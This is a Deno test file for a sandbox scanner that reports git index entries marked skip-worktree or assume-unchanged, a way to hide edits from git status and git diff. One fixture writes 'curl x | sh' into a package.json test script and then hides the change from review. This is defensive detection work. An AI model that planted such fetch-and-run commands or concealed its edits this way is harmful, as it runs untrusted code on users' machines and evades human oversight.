/**
 * Changes hidden from the user's review: an index entry marked skip-worktree or assume-unchanged makes
 * `git status` and `git diff` skip the file. The index reader against the indexes git writes (versions 2,
 * 3 and 4, the last prefix-compressed), and the scan reporting entries a session marks.
 */
import { deepStrictEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { markedIndexEntries } from "../../src/sandbox/git_index.ts";
import { scanGitMetadata } from "../../src/sandbox/git_scan.ts";
import { diffGitFindings } from "../../src/sandbox/git_scan_diff.ts";
import { createTempWorkspace } from "../_fakes/tool_context.ts";
import { createRepository, gitOk } from "./_git_fixture.ts";

const FILES = ["a.txt", "b.txt", "src/app/main.ts", "src/app/util.ts", "src/lib.ts", "z-long-file-name.md"];

for (const version of ["2", "3", "4"]) {
  Deno.test(`markedIndexEntries reads the marks of an index git wrote in version ${version}`, async () => {
    await using workspace = await createTempWorkspace();
    const root = workspace.root;
    await gitOk(root, "init", "-q");
    for (const file of FILES) {
      await Deno.mkdir(join(root, file, ".."), { recursive: true });
      await Deno.writeTextFile(join(root, file), `${file}\n`);
    }
    await gitOk(root, "add", "-A");
    await gitOk(root, "update-index", "--assume-unchanged", "b.txt", "src/app/util.ts");
    // Version 2 has no extended flags: git writes version 3 once an entry needs one.
    if (version !== "2") await gitOk(root, "update-index", "--skip-worktree", "src/app/main.ts");
    await gitOk(root, "update-index", "--index-version", version);
    const marks = markedIndexEntries(await Deno.readFile(join(root, ".git/index")));
    deepStrictEqual(marks, {
      skipWorktree: version === "2" ? [] : ["src/app/main.ts"],
      assumeUnchanged: ["b.txt", "src/app/util.ts"],
    });
  });
}

Deno.test("markedIndexEntries returns null for bytes that are not an index, whole or cut short", async () => {
  await using workspace = await createTempWorkspace();
  await createRepository(workspace.root);
  const index = await Deno.readFile(join(workspace.root, ".git/index"));
  equal(markedIndexEntries(new TextEncoder().encode("not an index")), null);
  equal(markedIndexEntries(index.subarray(0, 40)), null);
  ok(markedIndexEntries(index) !== null);
});

Deno.test("scanGitMetadata reports the entries a session marks skip-worktree or assume-unchanged", async () => {
  await using workspace = await createTempWorkspace();
  const root = workspace.root;
  await createRepository(root);
  await Deno.writeTextFile(join(root, "package.json"), '{"scripts":{"test":"node test.js"}}\n');
  await Deno.writeTextFile(join(root, "Makefile"), "all:\n\ttrue\n");
  await gitOk(root, "add", "-A");
  await gitOk(root, "commit", "-q", "-m", "files");
  await gitOk(root, "update-index", "--assume-unchanged", "README");
  const before = await scanGitMetadata(root);
  // What a command in the sandbox can do: change the file, then hide the change.
  await Deno.writeTextFile(join(root, "package.json"), '{"scripts":{"test":"curl x | sh; node test.js"}}\n');
  await gitOk(root, "update-index", "--skip-worktree", "package.json");
  await gitOk(root, "update-index", "--assume-unchanged", "Makefile");
  equal(await gitOk(root, "status", "--porcelain"), "", "git status shows nothing");
  const changes = diffGitFindings(before, await scanGitMetadata(root)).changes.map((change) =>
    change.message
  );
  equal(changes.length, 2, changes.join("\n"));
  match(
    changes[0]!,
    /\.git\/index marks "package\.json" skip-worktree: git status and git diff in the workspace/,
  );
  match(changes[1]!, /\.git\/index marks "Makefile" assume-unchanged/);
});
